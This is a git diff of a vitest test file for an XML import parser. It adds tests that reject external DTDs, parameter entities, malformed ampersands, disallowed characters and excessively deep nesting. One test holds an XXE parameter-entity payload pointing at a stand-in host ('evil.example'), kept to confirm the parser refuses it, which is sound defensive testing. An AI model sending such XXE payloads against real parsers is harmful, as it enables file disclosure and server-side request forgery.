@@ -3,7 +3,6 @@ import { describe, expect, it } from "vitest";
 import { parseXml } from "./parse-xml";
 import { catchImportError } from "@/lib/testing/catch-import-error";
 
-
 const ALTO = `<?xml version="1.0" encoding="UTF-8"?>
 <alto:alto xmlns:alto="http://www.loc.gov/standards/alto/ns-v3#" xmlns:xlink="http://www.w3.org/1999/xlink">
   <alto:Layout>
@@ -84,6 +83,16 @@ describe("parseXml", () => {
     expect(catchImportError(() => parseXml("lol.xml", lol)).code).toBe("xml-entity");
   });
 
+  it("refuses parameter entities and external DTD subsets that declare entities", () => {
+    const param = `<!DOCTYPE alto [\n<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">\n%dtd;\n]>\n<alto/>`;
+    expect(catchImportError(() => parseXml("p.xml", param)).code).toBe("xml-entity");
+  });
+
+  it("never fetches an external DTD: a DOCTYPE naming one is read without it", () => {
+    const root = parseXml("m.xml", '<!DOCTYPE mets PUBLIC "-//x//EN" "http://127.0.0.1:1/never.dtd"><mets><a>&amp;</a></mets>');
+    expect(root.children[0]!.text).toBe("&");
+  });
+
   it("refuses entities it does not know instead of resolving them", () => {
     const e = catchImportError(() => parseXml("p1.xml", '<alto><String CONTENT="&nbsp;"/></alto>'));
     expect(e.message).toBe("p1.xml: the XML is malformed (line 1): unknown entity &nbsp;");
@@ -103,6 +112,21 @@ describe("parseXml", () => {
     ["</a>", "unexpected </a>"],
   ])("rejects malformed XML: %s", (xml, detail) => {
     expect(catchImportError(() => parseXml("x.xml", xml)).message).toBe(`x.xml: the XML is malformed (line 1): ${detail}`);
+  });
+
+  it("reports a stray “&” at its own line, even when no “;” ever follows", () => {
+    expect(catchImportError(() => parseXml("x.xml", "<a>\n<b>R&D</b>\n</a>")).message).toBe(
+      "x.xml: the XML is malformed (line 2): “&” must start an entity such as &amp;",
+    );
+    expect(catchImportError(() => parseXml("x.xml", "<a>\n<b>R & D; more</b>\n</a>")).message).toBe(
+      "x.xml: the XML is malformed (line 2): “&” must start an entity such as &amp;",
+    );
+  });
+
+  it("refuses characters XML does not allow, naming them", () => {
+    expect(catchImportError(() => parseXml("x.xml", '<a>\n<String CONTENT="a\u0001b"/></a>')).message).toBe(
+      "x.xml: the XML is malformed (line 2): a character XML does not allow (U+0001)",
+    );
   });
 
   it("allows a DOCTYPE without entity declarations", () => {
@@ -139,6 +163,15 @@ describe("parseXml", () => {
     expect([root.attrs.get("a0"), root.attrs.get("a499")]).toEqual(["0", "499"]);
     const repeated = catchImportError(() => parseXml("a.xml", `<r${attrs(499)} x:a3="again"/>`));
     expect(repeated.message).toBe("a.xml: the XML is malformed (line 1): attribute x:a3 is repeated in <r>");
+  });
+
+  it("refuses elements nested more than 256 deep, at the line where the limit is passed", () => {
+    const deep = (n: number) => `${"<d>\n".repeat(n)}${"</d>".repeat(n)}`;
+    expect(parseXml("ok.xml", deep(256)).name).toBe("d");
+    const e = catchImportError(() => parseXml("deep.xml", deep(100_000)));
+    expect(e.code).toBe("xml-malformed");
+    expect(e.message).toBe("deep.xml: the XML is malformed (line 257): elements are nested too deeply");
+    expect(e.messageZh).toBe("deep.xml：XML 格式错误（第 257 行）：元素嵌套层数过多");
   });
 
   it("refuses more than a million elements (20 MiB of <a/> took 1.2 GB as a tree)", () => {
